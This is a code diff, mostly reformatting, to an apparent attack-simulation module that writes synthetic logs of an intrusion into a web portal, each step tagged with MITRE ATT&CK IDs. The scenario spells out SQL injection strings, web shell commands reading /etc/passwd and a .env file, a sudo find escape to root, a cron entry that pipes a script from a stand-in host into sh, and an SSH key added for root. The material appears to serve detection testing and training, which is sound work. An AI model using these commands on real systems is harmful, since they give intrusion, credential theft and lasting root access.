@@ -22,10 +22,18 @@ def _deed(name: str, what: str, tactic: str, *techniques: str, quiet: bool = Fal
 
 _PROBE = _deed("web-probe", "The portal is searched for forgotten pages.", "reconnaissance", "T1595.003", quiet=True)
 _INJECT = _deed("web-injection", "SQL is injected into the search to read the account table.", "initial-access", "T1190")
-_UPLOAD = _deed("web-upload", "A script is uploaded as a picture through a form that checks too little.", "initial-access", "T1190", "T1505.003")
+_UPLOAD = _deed(
+    "web-upload", "A script is uploaded as a picture through a form that checks too little.", "initial-access", "T1190", "T1505.003"
+)
 _SHELL = _deed("web-shell", "Commands are given to the uploaded script.", "execution", "T1505.003", "T1059.004")
 _REVERSE = _deed("reverse-shell", "The web server's user opens an interactive shell to the intruder.", "execution", "T1059.004", "T1571")
-_HIDDEN_SHELL = _deed("posted-shell", "Later commands travel in the body of POST requests to the same script: the log shows only that they came.", "command-and-control", "T1071.001", quiet=True)
+_HIDDEN_SHELL = _deed(
+    "posted-shell",
+    "Later commands travel in the body of POST requests to the same script: the log shows only that they came.",
+    "command-and-control",
+    "T1071.001",
+    quiet=True,
+)
 _ROOT = _deed("sudo-escape", "A program that may be run with sudo is made to start a root shell.", "privilege-escalation", "T1548.003")
 _CRON = _deed("cron-job", "A cron entry fetches and runs a script every hour.", "persistence", "T1053.003", "T1105")
 _KEY = _deed("ssh-key", "A key is added to root's authorized keys.", "persistence", "T1098.004")
@@ -43,13 +51,26 @@ def _enter(attack: Attack) -> None:
     moment = company.clock.at("06:12:30")
     with attack.doing(moment, _PROBE):
         for turn in range(140):
-            path = f"/{attack.rng.choice(('admin', 'old', 'upload', 'backup', 'test', 'dev', 'api', 'profile'))}/{attack.rng.choice(('index.php', '', 'login', 'config.php', 'v2', 'avatar'))}?{turn}"
+            folder = attack.rng.choice(("admin", "old", "upload", "backup", "test", "dev", "api", "profile"))
+            path = f"/{folder}/{attack.rng.choice(('index.php', '', 'login', 'config.php', 'v2', 'avatar'))}?{turn}"
             company.visit(moment + turn * 2.3, _INTRUDER, Request(path, status=404, size=162, agent=_AGENT))
         company.network.connection(moment, Flow(_INTRUDER, company.network.port(), "192.0.2.10", 443, "ssl", 322.0, 60_000, 90_000))
     moment = company.clock.at("06:31:12")
     with attack.doing(moment, _INJECT):
-        for turn, text in enumerate(("lamp' AND 1=1--", "lamp' AND 1=2--", "lamp' ORDER BY 5--", "lamp' UNION SELECT 1,version(),3,4,5--", "lamp' UNION SELECT 1,login,secret,4,5 FROM accounts--")):
-            company.visit(moment + turn * 17, _INTRUDER, Request(f"/search?q={quote(text)}", status=500 if "ORDER" in text else 200, size=5312 + turn * 911, agent=_AGENT))
+        for turn, text in enumerate(
+            (
+                "lamp' AND 1=1--",
+                "lamp' AND 1=2--",
+                "lamp' ORDER BY 5--",
+                "lamp' UNION SELECT 1,version(),3,4,5--",
+                "lamp' UNION SELECT 1,login,secret,4,5 FROM accounts--",
+            )
+        ):
+            company.visit(
+                moment + turn * 17,
+                _INTRUDER,
+                Request(f"/search?q={quote(text)}", status=500 if "ORDER" in text else 200, size=5312 + turn * 911, agent=_AGENT),
+            )
     moment = company.clock.at("06:48:55")
     with attack.doing(moment, _UPLOAD):
         company.visit(moment, _INTRUDER, Request("/profile/avatar", "POST", 302, 0, _AGENT, "https://www.example.com/profile"))
@@ -61,7 +82,11 @@ def _command(attack: Attack) -> None:
     moment = company.clock.at("06:50:20")
     with attack.doing(moment, _SHELL):
         for turn, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ls -la /srv/portal", "cat /srv/portal/.env")):
-            company.visit(moment + turn * 14, _INTRUDER, Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", size=80 + turn * 300, agent=_AGENT))
+            company.visit(
+                moment + turn * 14,
+                _INTRUDER,
+                Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", size=80 + turn * 300, agent=_AGENT),
+            )
             host.execute(moment + turn * 14, Execution(("/bin/sh", "-c", command), 33, directory="/srv/portal/uploads/avatars"))
             host.execute(moment + turn * 14 + 0.02, Execution(command.split(), 33, directory="/srv/portal/uploads/avatars"))
     moment = company.clock.at("06:57:41")
@@ -81,13 +106,18 @@ def _stay(attack: Attack) -> None:
     company, host = attack.company, attack.company.linux[_HOST]
     moment = company.clock.at("07:06:19")
     with attack.doing(moment, _ROOT):
-        host.execute(moment, Execution(("sudo", "-l"), 33, directory="/tmp"))
+        host.execute(moment, Execution(("sudo", "-l"), 33, directory="/tmp"))  # noqa: S108 - told in a log, not used
         host.sudo(moment + 20, "www-data", "/usr/bin/find /srv/portal/cache -exec /bin/sh ; -quit", "/var")
-        host.execute(moment + 20, Execution(("/usr/bin/find", "/srv/portal/cache", "-exec", "/bin/sh", ";", "-quit"), 0, directory="/tmp"))
-        host.execute(moment + 20.1, Execution(("/bin/sh",), 0, directory="/tmp"))
+        host.execute(moment + 20, Execution(("/usr/bin/find", "/srv/portal/cache", "-exec", "/bin/sh", ";", "-quit"), 0, directory="/tmp"))  # noqa: S108 - told in a log, not used
+        host.execute(moment + 20.1, Execution(("/bin/sh",), 0, directory="/tmp"))  # noqa: S108 - told in a log, not used
     moment = company.clock.at("07:13:02")
     with attack.doing(moment, _CRON):
-        host.execute(moment, Execution(("/bin/sh", "-c", "echo '17 * * * * root curl -fs http://cdn-update.example.net/l | sh' > /etc/cron.d/portal-cache"), 0))
+        host.execute(
+            moment,
+            Execution(
+                ("/bin/sh", "-c", "echo '17 * * * * root curl -fs http://cdn-update.example.net/l | sh' > /etc/cron.d/portal-cache"), 0
+            ),
+        )
         for turn in range(5):
             beat = company.clock.at(f"{9 + turn * 2:02d}:17:01")
             pid = host.pid()
@@ -96,7 +126,9 @@ def _stay(attack: Attack) -> None:
             host.log(beat + 2, "CRON", "pam_unix(cron:session): session closed for user root", pid)
     moment = company.clock.at("07:15:48")
     with attack.doing(moment, _KEY):
-        host.execute(moment, Execution(("/bin/sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE >> /root/.ssh/authorized_keys"), 0))
+        host.execute(
+            moment, Execution(("/bin/sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE >> /root/.ssh/authorized_keys"), 0)
+        )
         peer = (_INTRUDER, company.network.port())
         company.network.connection(moment + 600, Flow(*peer, "192.0.2.10", 22, "ssh", 1800.0, 52_000, 190_000))
         attack.company.linux[_HOST].accept(moment + 600, "root", peer, "publickey")
